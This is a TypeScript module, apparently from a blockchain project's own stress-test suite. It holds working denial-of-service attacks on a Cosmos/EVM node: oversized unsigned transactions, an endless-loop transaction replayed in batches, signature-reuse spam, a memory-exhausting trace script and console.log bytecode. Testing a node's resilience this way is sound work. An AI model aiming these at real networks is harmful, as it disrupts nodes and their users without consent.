/** Attacks by work: checks, simulations, batches and traces that run long. */
import { create, toBinary } from '@bufbuild/protobuf'
import { type Hex, parseTransaction, serializeTransaction } from 'viem'
import { privateKeyToAccount } from 'viem/accounts'
import { MsgSendSchema } from '../../../src/gen/sdk/bank/v1beta1/tx_pb.ts'
import { AuthInfoSchema, TxBodySchema, TxRawSchema } from '../../../src/gen/sdk/tx/v1beta1/tx_pb.ts'
import { callOf, ENDLESS, NOBODY } from './code.ts'
import { LOWEST_PRICE_WEI, MOST_GAS } from './pool.ts'
import { type Attack, attackerKey, call, callAt, repeat, result, send, type Target, withinLimits } from './target.ts'

/** Returns a transaction of the chain with many transfers and no signature. Encoding: base64. */
function unsignedTransfers({ config }: Target, number: number): string {
  const [from, to] = config.accounts
  const value = toBinary(
    MsgSendSchema,
    create(MsgSendSchema, {
      fromAddress: from!.bech32,
      toAddress: to!.bech32,
      amount: [{ denom: 'unative', amount: '1' }],
    }),
  )
  const messages = Array.from({ length: number }, () => ({ typeUrl: '/sdk.bank.v1beta1.MsgSend', value }))
  const bodyBytes = toBinary(TxBodySchema, create(TxBodySchema, { messages }))
  const authInfoBytes = toBinary(AuthInfoSchema, create(AuthInfoSchema, { fee: { gasLimit: 50_000_000n } }))
  return Buffer.from(toBinary(TxRawSchema, create(TxRawSchema, { bodyBytes, authInfoBytes }))).toString('base64')
}

interface Checked {
  readonly result?: { readonly code: number; readonly gas_used: string }
}

/** Returns `admitted`, `refused` or `executed` for an answer of `check_tx`: a message that runs uses more gas than admission. */
function kindOf({ result }: Checked): string {
  if (!result) return 'invalid'
  if (Number(result.gas_used) > 1_000_000) return 'executed'
  return result.code === 0 ? 'admitted' : 'refused'
}

/** Checks of an unsigned transaction with 25,000 messages. */
export const checkUnsigned: Attack = async (target) => {
  const check = call('check_tx', { tx: unsignedTransfers(target, 25_000) })
  return (stop, count) =>
    repeat(2, stop, count, async () => kindOf(await callAt<Checked>(target, target.config.urls.comet, check)))
}

/** A creation that loops until its gas is used up, followed by bytes that tell it from other transactions of the pool. */
const LOOP = `${ENDLESS}${Buffer.from('endless').toString('hex')}` as const

/** Returns a waiting transaction of the pool that executes for long: its nonce leaves a gap. Encoding: base64. */
async function waitingLoop(target: Target): Promise<string> {
  const raw = await privateKeyToAccount(attackerKey(target, 0)).signTransaction({
    data: LOOP,
    gas: MOST_GAS,
    // A high price keeps its place in a full pool.
    gasPrice: 100n * LOWEST_PRICE_WEI,
    nonce: 7,
    chainId: target.config.evm_chain_id,
    type: 'legacy',
  })
  // Two attacks prepare the same one.
  await withinLimits(() => result(target, 'eth_sendRawTransaction', [raw])).catch((error: Error) => {
    if (!error.message.includes('already known')) throw error
  })
  const { txs } = await withinLimits(() =>
    result<{ txs: string[] }>(target, 'unconfirmed_txs', { limit: '100' }, target.config.urls.comet),
  )
  const tx = txs.find((text) => Buffer.from(text, 'base64').includes(Buffer.from(LOOP.slice(2), 'hex')))
  if (!tx) throw new Error('the pool does not have the loop')
  return tx
}

/** Checks of a signed EVM loop of 16.7M gas, replayed from the pool in batches on four connections. */
export const checkLoops: Attack = async (target) => {
  const tx = await waitingLoop(target)
  const batch = Array.from({ length: 10 }, (_, id) => call('check_tx', { tx }, id))
  return (stop, count) =>
    repeat(4, stop, count, async () => {
      const answers = await callAt<Checked[]>(target, target.config.urls.comet, batch)
      return answers.map(kindOf).find((kind) => kind === 'executed') ?? kindOf(answers[0]!)
    })
}

/** Simulations of the same loop over REST. */
export const simulateLoops: Attack = async (target) => {
  const body = JSON.stringify({ tx_bytes: await waitingLoop(target) })
  return (stop, count) =>
    repeat(4, stop, count, async () => {
      const { status } = await send(target, `${target.config.urls.rest}/sdk/tx/v1beta1/simulate`, { body })
      return `status ${status}`
    })
}

/** Calls of endless code up to the limit of gas, on eight connections. */
export const endlessCalls: Attack = async (target) => {
  const endless = callOf(ENDLESS)
  return (stop, count) =>
    repeat(8, stop, count, async () => {
      const { error } = await callAt(target, target.config.urls.jsonrpc, endless)
      return error ? 'refused' : 'answered'
    })
}

/** Batches of 1,000 raw transactions, each of another sender without funds. */
export const rawBatches: Attack = async (target) => {
  const transfer = { to: NOBODY, value: 1n, gas: 21_000n, gasPrice: LOWEST_PRICE_WEI } as const
  const chainId = target.config.evm_chain_id
  const signed = await privateKeyToAccount(attackerKey(target, 0)).signTransaction({
    ...transfer,
    to: NOBODY,
    chainId,
  })
  const { r, s, v } = parseTransaction(signed) as { r: Hex; s: Hex; v: bigint }
  let next = 1n
  // The signature of one transaction on another recovers an address that nobody has used.
  const strange = (): Hex => serializeTransaction({ ...transfer, chainId, type: 'legacy', value: ++next }, { r, s, v })
  return (stop, count) =>
    repeat(2, stop, count, async () => {
      const batch = Array.from({ length: 1000 }, (_, id) => call('eth_sendRawTransaction', [strange()], id))
      const answers = await callAt<{ error?: object }[]>(target, target.config.urls.jsonrpc, batch)
      return Array.isArray(answers) && answers.every(({ error }) => error) ? 'refused' : 'admitted'
    })
}

/** A tracer that allocates without end while it is set up. */
export const GREEDY_TRACER =
  '{setup: function() { var all = []; for (;;) all.push(new Uint8Array(1 << 20)) }, fault: function() {}, result: function() {}}'

/** Traces whose script allocates without end. */
export const greedyTracers: Attack = async (target) => {
  const trace = call('debug_traceCall', [{ to: NOBODY }, 'latest', { tracer: GREEDY_TRACER }])
  return (stop, count) =>
    repeat(2, stop, count, async () => {
      const { error } = await callAt(target, target.config.urls.jsonrpc, trace)
      return error ? 'refused' : 'answered'
    })
}

/** Stores the call `log(string)` with a text of 1 kB in memory, and makes it until the gas is used up. */
const PRINTS = `0x${[
  // PUSH4 selector, PUSH1 0xe0, SHL, PUSH0, MSTORE; offset 32 at 4; length 992 at 36.
  '6341304faf60e01b5f52',
  '6020600452',
  '6103e0602452',
  // JUMPDEST; PUSH0 PUSH0, PUSH2 size, PUSH0, PUSH11 address, GAS, STATICCALL, POP; PUSH1 back, JUMP.
  '5b5f5f6104245f6a636f6e736f6c652e6c6f675afa50',
  '601556',
].join('')}`

/** Gas of 23,000 lines, which a call prints within its time. */
const PRINTING_GAS = '0x2dc6c0'

/** Calls that print text with `console.log` until their gas is used up. */
export const printingCalls: Attack = async (target) => {
  const printing = callOf(PRINTS, 1, PRINTING_GAS)
  return (stop, count) =>
    repeat(2, stop, count, async () => {
      const { error } = await callAt(target, target.config.urls.jsonrpc, printing)
      return error ? 'refused' : 'answered'
    })
}
